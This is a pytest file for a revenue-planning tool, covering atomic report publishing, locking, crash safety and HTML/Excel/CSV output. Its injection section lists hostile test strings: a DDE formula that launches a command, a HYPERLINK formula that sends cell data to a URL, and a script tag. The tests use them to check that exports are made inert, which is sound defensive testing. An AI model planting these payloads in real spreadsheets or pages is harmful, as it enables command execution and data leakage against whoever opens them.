"""Tests of the plan pack machinery: run folder, failure reporting, atomic publish, HTML/Excel/manifest."""

from __future__ import annotations

import errno
import json
import os
import re
from pathlib import Path

import nbformat
import numpy as np
import openpyxl
import pandas as pd
import pytest
import xarray as xr
import yaml

from revmodel import formatting, publish
from revmodel.errors import ParameterError, RevmodelError
from revmodel.publish import swap


def test_results_round_trip(tmp_path):
    ds = xr.Dataset(
        {"x": ("rep", [1.0, 2.0]), "flag": ("rep", np.array([True, False])), "who": ("rep", np.array(["a", "b"], dtype=object))},
        coords={"rep": np.array(["r1", "r2"], dtype=object), "manager": ("rep", np.array(["m", "n"], dtype=object))},
        attrs={"as_of": "2026-10-01", "band": [0.8, 1.25], "backfill": True, "info": {"a": 1}},
    )  # fmt: skip
    assert publish.save_result(tmp_path, "ds", ds).name == "ds.nc"
    back = publish.load_result(tmp_path, "ds")
    np.testing.assert_array_equal(back["x"].values, [1.0, 2.0])
    assert list(back["rep"].values) == ["r1", "r2"] and back["rep"].dtype == object
    assert list(back["who"].values) == ["a", "b"]
    assert back.attrs["backfill"] == 1 and json.loads(back.attrs["info"]) == {"a": 1}
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})
    publish.save_result(tmp_path, "frame", frame)
    pd.testing.assert_frame_equal(publish.load_result(tmp_path, "frame"), frame)
    publish.save_result(
        tmp_path, "info", {"n": np.int64(3), "v": float("nan"), "d": pd.Timestamp("2026-01-05")}
    )
    assert publish.load_result(tmp_path, "info") == {"n": 3, "v": None, "d": "2026-01-05"}


def test_missing_result_names_the_notebook_order(tmp_path):
    with pytest.raises(
        RevmodelError,
        match=r"no result named 'forecast'; run the notebook that makes it first",
    ):
        publish.load_result(tmp_path, "forecast")


def test_tables_round_trip(tmp_path):
    tables = {
        "reps": pd.DataFrame({"rep_id": ["a"]}),
        "accounts": pd.DataFrame({"account_id": ["x", "y"]}),
    }
    publish.save_tables(tmp_path, tables)
    back = publish.load_tables(tmp_path)
    assert sorted(back) == ["accounts", "reps"] and len(back["accounts"]) == 2


def _pack(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True)
    for name in PACK_FILES:
        (folder / name).write_text(text)
    return folder


PACK_FILES = ("plan.html", "plan.xlsx", "plan.nc", "manifest.json")


def test_publish_flips_a_link_to_a_new_version(tmp_path):
    out = tmp_path / "reports"
    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "old"), out, "FY2027-Q1")
    first = swap.current_version(out, "FY2027-Q1")
    swap.publish(_pack(out / ".FY2027-Q1.tmp-2", "new"), out, "FY2027-Q1")
    assert (out / "FY2027-Q1").is_symlink()
    assert not os.path.isabs(os.readlink(out / "FY2027-Q1"))
    assert (out / "FY2027-Q1" / "plan.html").read_text() == "new"
    assert swap.current_version(out, "FY2027-Q1").parent == out / ".FY2027-Q1"
    # The previous version stays until the next run cleans up: a reader may have just followed it.
    assert (first / "plan.html").read_text() == "old"
    assert swap.clean_leftovers(out, sockets_dir=tmp_path) == [first]
    assert sorted(p.name for p in out.iterdir()) == [".FY2027-Q1", "FY2027-Q1"]


def test_publish_moves_a_pack_of_the_old_layout_aside(tmp_path):
    out = tmp_path / "reports"
    _pack(out / "FY2027-Q1", "old")
    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "new"), out, "FY2027-Q1")
    assert (out / "FY2027-Q1" / "plan.html").read_text() == "new"
    moved = [p for p in (out / ".FY2027-Q1").iterdir() if p.name.endswith("-moved")]
    assert len(moved) == 1 and (moved[0] / "plan.html").read_text() == "old"


def test_first_publish_over_the_old_layout_never_leaves_a_gap(tmp_path, monkeypatch):
    out = tmp_path / "reports"
    _pack(out / "FY2027-Q1", "old")
    seen = []
    rename, replace = os.rename, os.replace

    def look(step):
        def wrapped(src, dst):
            step(src, dst)
            seen.append((out / "FY2027-Q1" / "plan.html").read_text())

        return wrapped

    monkeypatch.setattr(swap.os, "rename", look(rename))
    monkeypatch.setattr(swap.os, "replace", look(replace))
    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "new"), out, "FY2027-Q1")
    assert seen == ["old", "new"]  # the version made, then the old folder renamed away: no gap
    assert (out / "FY2027-Q1").is_symlink()
    assert sorted(p.name for p in out.iterdir()) == [".FY2027-Q1", "FY2027-Q1"]


def test_old_layout_without_an_atomic_exchange_moves_the_folder_aside(tmp_path, monkeypatch):
    monkeypatch.setattr(swap, "_exchange", lambda a, b: False)
    out = tmp_path / "reports"
    _pack(out / "FY2027-Q1", "old")
    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "new"), out, "FY2027-Q1")
    assert (out / "FY2027-Q1" / "plan.html").read_text() == "new"
    moved = [p for p in (out / ".FY2027-Q1").iterdir() if p.name.endswith("-moved")]
    assert len(moved) == 1 and (moved[0] / "plan.html").read_text() == "old"


def test_exchange_swaps_a_link_and_a_folder(tmp_path):
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "f").write_text("x")
    os.symlink("elsewhere", tmp_path / "link")
    assert swap._exchange(tmp_path / "link", tmp_path / "folder")
    assert os.readlink(tmp_path / "folder") == "elsewhere"
    assert (tmp_path / "link" / "f").read_text() == "x"
    with pytest.raises(FileNotFoundError):
        swap._exchange(tmp_path / "missing", tmp_path / "folder")


def test_failed_flip_leaves_the_previous_pack_published(tmp_path, monkeypatch):
    out = tmp_path / "reports"
    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "old"), out, "FY2027-Q1")

    def full(src, dst):
        raise OSError(errno.ENOSPC, "No space left on device", str(dst))

    monkeypatch.setattr(swap.os, "replace", full)
    with pytest.raises(OSError, match="No space left"):
        swap.publish(_pack(out / ".FY2027-Q1.tmp-2", "new"), out, "FY2027-Q1")
    assert (out / "FY2027-Q1" / "plan.html").read_text() == "old"


def test_bad_parameters_stop_before_anything_runs(tmp_path):
    path = tmp_path / "p.yaml"
    path.write_text(yaml.safe_dump({"cycle": "FY2027-Q1", "data_dir": str(tmp_path / "none")}))
    out = tmp_path / "reports"
    with pytest.raises(ParameterError, match=r"data_dir '.*none': no such folder"):
        publish.plan(path, out_dir=out)
    assert not out.exists()


def test_html_table_formats():
    t = pd.DataFrame(
        {
            "name": ["A&B"],
            "forecast": [1_234_567.0],
            "coverage": [0.912],
            "hires": [3.0],
            "in_band": [True],
        }
    )
    html = publish.html_table(t)
    assert (
        "A&amp;B" in html
        and "$1.2M" in html
        and "91%" in html
        and ">3<" in html
        and ">yes<" in html
    )
    assert "1 of 3 rows" in publish.html_table(pd.concat([t] * 3), max_rows=1)


def test_a_quarter_under_way_says_what_is_booked_beside_the_forecast():
    params = {"cycle": "FY2027-Q1"}
    page = publish.render_html(
        {**_summary(), "quarter_booked": 1e6, "quarter_gap": -5e5}, {}, {}, params, ""
    )
    text = " ".join(re.sub(r"<[^>]+>", " ", page).split())
    assert (
        "Bookings forecast $2.5M on top of $1.0M already booked against a target of $3.0M" in text
    )
    assert "target − booked − forecast" in text
    plain = " ".join(
        re.sub(r"<[^>]+>", " ", publish.render_html(_summary(), {}, {}, params, "")).split()
    )
    assert "already booked" not in plain and "target − forecast" in plain


def test_kpi_table_shows_labels_with_units():
    """The pack's KPI rows read as words, DSO and sales cycle in days, not as identifiers."""
    from revmodel.publish.html import kpi_table

    kpis = pd.DataFrame(
        {
            "fiscal_quarter": ["FY2026-Q4", "FY2027-Q1"],
            "churn_rate": [0.11, float("nan")],
            "dso": [41.26, 38.0],
            "sales_cycle": [63.0, 70.4],
            "nrr": [1.04, 1.02],
        }
    )
    t = kpi_table(kpis, "GBP")
    assert [c for c, _ in t.columns] == ["kpi", "FY2026-Q4", "FY2027-Q1"]
    got = {row[0][0]: [text for text, _ in row[1:]] for row in t.rows}
    assert got == {
        "Churn rate (annual)": ["11%", "–"],
        "DSO (days)": ["41", "38"],
        "Sales cycle (days)": ["63", "70"],
        "Net revenue retention": ["104%", "102%"],
    }


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (1.5e9, "$1.50B"),
        (-2_500_000.0, "-$2.5M"),
        (12_345.0, "$12K"),
        (12.0, "$12"),
        (float("nan"), "–"),
        (None, "–"),
    ],
)
def test_money(value, text):
    assert formatting.money(value, "USD") == text


def _summary() -> dict:
    return {"cycle": "FY2027-Q1", "plan_year": "FY2027", "as_of": "2026-10", "quarter_months": "Nov 2026 - Jan 2027",
            "quarter_target": 3e6, "quarter_forecast": 2.5e6, "quarter_p10": 2e6, "quarter_p90": 3.2e6, "quarter_gap": 5e5}  # fmt: skip


def test_html_is_self_contained_and_has_no_code():
    page = publish.render_html(_summary(), {"scenarios": pd.DataFrame({"scenario": ["base"], "target": [1.0]})}, {}, {"cycle": "FY2027-Q1"}, "/*plotly*/")  # fmt: skip
    assert page.startswith("<!DOCTYPE html>")
    assert "<script src" not in page and "In [" not in page and "import " not in page
    assert (
        "Quarterly plan FY2027-Q1" in page
        and "Executive summary" in page
        and "Scenario comparison" in page
    )
    assert "a shortfall of $500K" in page
    assert page.count("/*plotly*/") == 1


def test_excel_one_sheet_per_table(tmp_path):
    path = publish.write_excel(
        tmp_path / "plan.xlsx", _summary(),
        {"quotas_by_rep": pd.DataFrame({"rep": ["a"], "quota_year": [10.0]}), "kpis": pd.DataFrame({"arr": [1.0]})},
    )  # fmt: skip
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Quotas by rep", "KPIs"]
    assert wb["Quotas by rep"]["B2"].value == 10.0
    assert wb["Quotas by rep"]["B2"].number_format == "#,##0"


def test_manifest_fields(tmp_path):
    (tmp_path / "opportunities.csv").write_text("a\n1\n")
    m = publish.manifest(
        {"cycle": "FY2027-Q1", "data_dir": str(tmp_path)}, 0.0, 12.34, Path("p.yaml")
    )
    assert m["cycle"] == "FY2027-Q1" and m["run_seconds"] == 12.3
    assert m["packages"]["xarray"] == xr.__version__
    assert m["kernel"]["name"] == publish.KERNEL_NAME
    assert isinstance(m["data_sha256"], str) and len(m["data_sha256"]) >= 16


def test_kernel_is_pinned_to_this_interpreter(tmp_path):
    import sys

    root = publish.ensure_kernel(tmp_path)
    spec = json.loads((root / "kernels" / publish.KERNEL_NAME / "kernel.json").read_text())
    assert spec["argv"][0] == sys.executable


def test_check_pack_lists_missing_files(tmp_path):
    problems = publish.check_pack(tmp_path)
    assert "plan.html is missing" in problems and "notebooks/01-data.ipynb is missing" in problems


def _notebook(path: Path, body: str) -> None:
    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell('work_dir: str = "x"  # run folder')
    params.metadata["tags"] = ["parameters"]
    nb.cells = [
        nbformat.v4.new_markdown_cell("# t"),
        params,
        nbformat.v4.new_code_cell("x = 1"),
        nbformat.v4.new_code_cell(body),
    ]
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nbformat.write(nb, path)


@pytest.mark.slow
def test_failed_notebook_names_notebook_and_cell(tmp_path):
    _notebook(tmp_path / "bad.ipynb", "raise ValueError('boom')")
    with pytest.raises(
        publish.PlanFailed, match=r"^Plan failed in notebook bad\.ipynb, cell 3: ValueError: boom"
    ) as err:
        publish.run_notebooks({"cycle": "FY2027-Q1"}, tmp_path / "work", tmp_path / "out" / "nb",
                             notebooks=("bad.ipynb",), notebooks_dir=tmp_path, failed_dir=tmp_path / "failed")  # fmt: skip
    kept = tmp_path / "failed" / "bad.ipynb"
    assert kept.exists() and str(kept) in str(err.value)
    nb = nbformat.read(kept, as_version=4)
    assert any(o.get("output_type") == "error" for c in nb.cells for o in c.get("outputs", []))


@pytest.mark.slow
def test_plan_kernels_stop_without_an_interrupt_and_print_nothing(tmp_path, monkeypatch, capfd):
    # jupyter_client sends SIGINT before asking a kernel to shut down; landing while the kernel
    # finishes its last reply, it printed "[IPKernelApp] ERROR | KeyboardInterrupt caught in
    # kernel." among `revmodel plan`'s lines. The kernel writes to the plan's stderr (fd 2).
    import signal

    from jupyter_client.manager import AsyncKernelManager

    sent: list[int] = []
    signal_kernel = AsyncKernelManager._async_signal_kernel

    async def recorded(self, signum):
        sent.append(signum)
        await signal_kernel(self, signum)

    monkeypatch.setattr(AsyncKernelManager, "_async_signal_kernel", recorded)
    _notebook(tmp_path / "ok.ipynb", "print('planned', x + 1)")
    written = publish.run_notebooks({"cycle": "FY2027-Q1"}, tmp_path / "work", tmp_path / "out",
                                    notebooks=("ok.ipynb",), notebooks_dir=tmp_path)  # fmt: skip
    nb = nbformat.read(written[0], as_version=4)
    assert [o["text"] for o in nb.cells[-1].outputs] == ["planned 2\n"]
    assert signal.SIGINT not in sent
    err = capfd.readouterr().err
    assert "KeyboardInterrupt" not in err and "[IPKernelApp]" not in err, err


def test_plan_command_names_a_bad_parameters_file(tmp_path, capsys):
    from revmodel import cli

    assert cli.main(["plan", "--params", str(tmp_path / "nope.yaml")]) == 2
    assert capsys.readouterr().err.strip() == (
        f"error: {tmp_path / 'nope.yaml'}: no such parameters file; see parameters/ for examples."
    )
    bad = tmp_path / "FY2027-Q1.yaml"
    bad.write_text("cycle: FY2027-Q1\ndata_dir: .\nchurn: 0.1\n")
    assert cli.main(["plan", "--params", str(bad), "--out", str(tmp_path / "reports")]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {bad}: unknown key 'churn'")
    assert not (tmp_path / "reports" / "FY2027-Q1").exists()


# --------------------------------------------------------------------------- lock, kill, concurrency


def _params(tmp_path: Path) -> Path:
    from revmodel import sample

    data = tmp_path / "data"
    sample.write(sample.generate(reps=4, months=24), data)
    path = tmp_path / "FY2027-Q1.yaml"
    path.write_text(yaml.safe_dump({"cycle": "FY2027-Q1", "data_dir": str(data)}))
    return path


def test_second_plan_into_the_same_folder_is_refused_naming_the_first(tmp_path):
    import subprocess
    import sys

    out = tmp_path / "reports"
    with swap.locked(out, "FY2027-Q1"):
        started = json.loads((out / swap.OWNER_FILE).read_text())["started_utc"]
        second = subprocess.run(
            [sys.executable, "-m", "revmodel", "plan", "--params", str(_params(tmp_path)),
             "--out", str(out)],
            capture_output=True, text=True, timeout=300, check=False,
        )  # fmt: skip
    assert second.returncode == 1
    assert second.stderr.strip().splitlines()[-1] == (
        f"error: {out}: another run is publishing here (pid {os.getpid()}, started {started}, "
        "cycle FY2027-Q1); waited 0 s. Let it finish, or stop it, then run again."
    )
    assert not (out / "FY2027-Q1").exists()


def test_lock_waits_a_bounded_time(tmp_path):
    import time

    out = tmp_path / "reports"
    with swap.locked(out, "FY2027-Q1"):
        t0 = time.monotonic()
        with (
            pytest.raises(swap.PublishLocked, match=r"waited 0\.3 s"),
            swap.locked(out, "FY2027-Q2", wait=0.3),
        ):
            pass  # pragma: no cover
        assert time.monotonic() - t0 >= 0.3
    with swap.locked(out, "FY2027-Q2"):
        assert json.loads((out / swap.OWNER_FILE).read_text())["cycle"] == "FY2027-Q2"


@pytest.mark.parametrize(
    ("code", "what"),
    [(errno.ENOSPC, "no space left on the device"), (errno.EACCES, "permission denied")],
)
def test_full_disk_or_no_permission_is_a_clear_message_and_nothing_half_written(
    tmp_path, monkeypatch, code, what
):
    from revmodel.publish import run

    out = tmp_path / "reports"
    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "old"), out, "FY2027-Q1")

    def half_written(settings, out_, tmp, work, notebooks_dir, started, scheduler=None):
        _pack(tmp, "half")
        assert (work / "input.json").is_file()  # the exports, read once, kept for the notebooks
        raise OSError(code, os.strerror(code), str(tmp / "plan.xlsx"))

    monkeypatch.setattr(run, "_build", half_written)
    with pytest.raises(swap.PublishError) as err:
        run.plan(_params(tmp_path), out_dir=out)
    tmp = out / f".FY2027-Q1.tmp-{os.getpid()}"
    assert str(err.value) == (
        f"{tmp / 'plan.xlsx'}: {what} while writing the pack; nothing was published and the "
        f"previous pack of {out} is untouched. Free some space or fix the permissions, then run again."
    )
    assert (out / "FY2027-Q1" / "plan.html").read_text() == "old"
    assert sorted(p.name for p in out.iterdir()) == [".FY2027-Q1", ".publish.lock", "FY2027-Q1"]


#: A publisher as a separate program: publishes fake packs in a loop, the way ``plan`` does.
_PUBLISHER = """
import os, pathlib, shutil, sys
from revmodel.publish import swap
out, n = pathlib.Path(sys.argv[1]), int(sys.argv[2])
socket = pathlib.Path(sys.argv[3]) / f"{swap.KERNEL_SOCKET_PREFIX}{os.getpid()}-abc-1"
socket.write_text("")
for i in range(n):
    with swap.locked(out, "FY2027-Q1", wait=60):
        swap.clean_leftovers(out, sockets_dir=socket.parent)
        tmp, work = swap.staging(out, "FY2027-Q1")
        work.mkdir()
        (work / "cube.nc").write_bytes(b"x" * 200_000)
        tmp.mkdir()
        for name in ("plan.html", "plan.xlsx", "plan.nc", "manifest.json"):
            (tmp / name).write_text(f"{i}\\n" * 50_000)
        swap.publish(tmp, out, "FY2027-Q1")
        shutil.rmtree(work)
    print(i, flush=True)
socket.unlink()  # a kernel that shuts down removes its sockets
"""


def _pack_is_whole(out: Path) -> None:
    texts = {(out / "FY2027-Q1" / name).read_text() for name in PACK_FILES}
    assert len(texts) == 1 and len(texts.pop()) > 0


@pytest.mark.slow
def test_publish_killed_at_random_points_leaves_the_last_pack_and_no_leftovers(tmp_path):
    import random
    import signal
    import subprocess
    import sys
    import time

    out, sockets = tmp_path / "reports", tmp_path / "sockets"
    sockets.mkdir()
    rng = random.Random(12)
    killed = 0
    for _ in range(8):
        child = subprocess.Popen(
            [sys.executable, "-c", _PUBLISHER, str(out), "1000", str(sockets)],
            stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        assert child.stdout.readline().strip().isdigit()  # one publish done: now in the loop
        time.sleep(rng.uniform(0.0, 0.25))
        os.kill(child.pid, signal.SIGKILL)
        child.wait(timeout=60)
        killed += child.returncode == -signal.SIGKILL
        _pack_is_whole(out)
    assert killed == 8
    assert list(sockets.iterdir())  # the killed run's kernel socket
    done = subprocess.run(
        [sys.executable, "-c", _PUBLISHER, str(out), "1", str(sockets)],
        capture_output=True, text=True, timeout=300, check=True,
    )  # fmt: skip
    assert done.stdout.strip() == "0"
    _pack_is_whole(out)
    assert (out / "FY2027-Q1" / "plan.html").read_text().startswith("0\n")
    assert not list(out.glob(".FY2027-Q1.*-*"))
    assert len(list((out / ".FY2027-Q1").iterdir())) <= 2  # the pack and the one before
    assert [p.name for p in sockets.iterdir()] == []  # the last run's socket went with it


@pytest.mark.slow
def test_readers_never_find_the_pack_missing_while_two_runs_publish(tmp_path):
    import subprocess
    import sys
    import threading

    out, sockets = tmp_path / "reports", tmp_path / "sockets"
    sockets.mkdir()
    subprocess.run([sys.executable, "-c", _PUBLISHER, str(out), "1", str(sockets)], check=True)
    publishers = [
        subprocess.Popen([sys.executable, "-c", _PUBLISHER, str(out), "50", str(sockets)],
                         stdout=subprocess.DEVNULL)
        for _ in range(2)
    ]  # fmt: skip
    looks, missing, torn = 0, 0, 0

    def read() -> None:
        nonlocal looks, missing, torn
        while any(p.poll() is None for p in publishers) and looks < 2_000_000:
            looks += 1
            try:
                text = (out / "FY2027-Q1" / "plan.html").read_text()
            except FileNotFoundError:
                missing += 1
                continue
            lines = text.split("\n")
            torn += len(lines) != 50_001 or len(set(lines[:-1])) != 1 or lines[-1] != ""

    reader = threading.Thread(target=read)
    reader.start()
    for p in publishers:
        assert p.wait(timeout=600) == 0
    reader.join(timeout=60)
    assert looks > 100 and missing == 0 and torn == 0
    _pack_is_whole(out)
    assert not list(out.glob(".FY2027-Q1.*-*"))


# --------------------------------------------------------------------------- injection

#: Names an export may carry that a spreadsheet would run or a browser would execute.
HOSTILE = (
    '=HYPERLINK("http://x"&A2,"Hannah")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1)",
    "+1",
    "-1+1",
    "<script>alert(1)</script>",
)


def assert_workbook_inert(path: Path) -> int:
    """Every cell of every sheet is text or a number, never a formula; returns the cells seen."""
    wb = openpyxl.load_workbook(path)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                seen += 1
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(formatting.FORMULA_TRIGGERS), (
                        f"{ws.title}!{c.coordinate} starts with a formula trigger: {c.value!r}"
                    )
    return seen


@pytest.mark.parametrize(
    ("value", "written"),
    [(h, "'" + h) for h in HOSTILE[:6]]
    + [("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("-5", "-5"), ("-1.25", "-1.25"), ("Hannah Murphy", "Hannah Murphy"),
       ("<script>alert(1)</script>", "<script>alert(1)</script>"), (-1.5, -1.5), (None, None)],
)  # fmt: skip
def test_inert_text(value, written):
    assert formatting.inert_text(value) == written
    assert formatting.restore_text(formatting.inert_text(value)) == value


def test_excel_writes_hostile_names_as_text(tmp_path):
    names = list(HOSTILE)
    tables = {
        "quotas_by_rep": pd.DataFrame(
            {"rep": names, "manager": names[::-1], "region": names, "quota_year": [-1.0] * 7}
        ),
        "territories": pd.DataFrame({"account": names, "potential": range(7)}),
        "forecast_by_level": pd.DataFrame({"level": ["rep"] * 7, "name": names}),
    }
    summ = {**_summary(), "cycle": "=1+1"}
    path = publish.write_excel(tmp_path / "plan.xlsx", summ, tables)
    assert assert_workbook_inert(path) > 40
    wb = openpyxl.load_workbook(path)
    assert wb["Quotas by rep"]["A2"].value == "'" + HOSTILE[0]
    assert wb["Quotas by rep"]["A8"].value == "<script>alert(1)</script>"
    assert wb["Quotas by rep"]["D2"].value == -1.0  # numbers stay numbers
    assert wb["Summary"]["B2"].value == "'=1+1"


def test_html_escapes_hostile_names():
    names = list(HOSTILE)
    tables = {
        "scenarios": pd.DataFrame({"scenario": names, "target": [1.0] * 7}),
        "forecast_by_level": pd.DataFrame(
            {"level": ["region", "segment", "manager", "rep"] * 2, "name": names + ["x"]}
        ),
    }
    params = {"cycle": "FY2027-Q1", "allocation_basis": "<script>alert(2)</script>"}
    page = publish.render_html(_summary(), tables, {}, params, "/*plotly*/")
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert page.count("<script") == 1  # plotly.js, inline


def test_csv_export_is_inert(tmp_path):
    path = formatting.write_csv(
        pd.DataFrame({"rep": list(HOSTILE), "n": range(7)}), tmp_path / "x.csv"
    )
    back = pd.read_csv(path)
    assert not back["rep"].str.startswith(formatting.FORMULA_TRIGGERS).any()
    assert list(back["rep"].map(formatting.restore_text)) == list(HOSTILE)


def test_pack_reads_the_data_folder_once_and_logs_the_waterfall_once(
    app_context, small_company, tmp_path, monkeypatch, caplog
):
    import logging

    from revmodel import publish, sources

    _, folder = small_company
    monkeypatch.setenv("REVMODEL_OVERRIDES_URL", f"sqlite:///{tmp_path / 'none.db'}")
    work = tmp_path / "work"
    publish.save_result(work, "cube", app_context.cube)
    reads = []
    load = sources.load
    monkeypatch.setattr(sources, "load", lambda *a, **k: reads.append(a) or load(*a, **k))
    with caplog.at_level(logging.INFO, logger="revmodel.history"):
        shown = publish.pack_tables(work, {"cycle": app_context.cycle, "data_dir": str(folder)})
    assert reads == [(str(folder),)]
    waterfalls = [r.getMessage() for r in caplog.records if r.getMessage().startswith("waterfall")]
    assert len(waterfalls) == 1, waterfalls
    week, quarter = shown["changes_week"].iloc[0], shown["changes_quarter"].iloc[0]
    assert waterfalls[0].endswith(f", {len(shown['changes_quarter'])} rows")
    assert week["closing"] == pytest.approx(quarter["closing"])  # both end on the same day


def test_pack_takes_the_exports_a_plan_kept_without_reading_the_folder(
    app_context, small_company, tmp_path, monkeypatch
):
    from revmodel import publish, sources

    _, folder = small_company
    monkeypatch.setenv("REVMODEL_OVERRIDES_URL", f"sqlite:///{tmp_path / 'none.db'}")
    params = {"cycle": app_context.cycle, "data_dir": str(folder)}
    read, kept = tmp_path / "read", tmp_path / "kept"
    for work in (read, kept):
        publish.save_result(work, "cube", app_context.cube)
    publish.save_input(kept, sources.load(folder))
    expected = publish.pack_tables(read, params)
    reads = []
    load = sources.load
    monkeypatch.setattr(sources, "load", lambda *a, **k: reads.append(a) or load(*a, **k))
    shown = publish.pack_tables(kept, params)
    assert reads == []
    for name in ("changes_week", "changes_quarter"):
        pd.testing.assert_frame_equal(shown[name], expected[name])
